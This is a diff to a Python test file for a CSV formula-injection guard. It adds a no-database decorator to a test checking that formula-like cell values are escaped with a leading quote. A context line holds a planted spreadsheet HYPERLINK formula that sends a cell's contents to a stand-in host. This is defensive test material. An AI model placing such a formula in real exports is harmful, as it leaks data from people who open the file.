@@ -11,6 +11,7 @@ import json
 
 import pytest
 
+from tests.conftest import no_database
 from web.core.infrastructure.formula_guard import csv_value, looks_like_formula
 
 PLANTED = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'
@@ -99,5 +100,6 @@ def texts(value):
     [("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"),
      ("\rx", "'\rx"), ("plain", "plain"), (-0.05, -0.05), (3, 3), ("", "")],
 )  # fmt: skip
+@no_database
 def test_a_csv_value_is_made_inert_only_when_it_is_text_like_a_formula(value, written):
     assert csv_value(value) == written
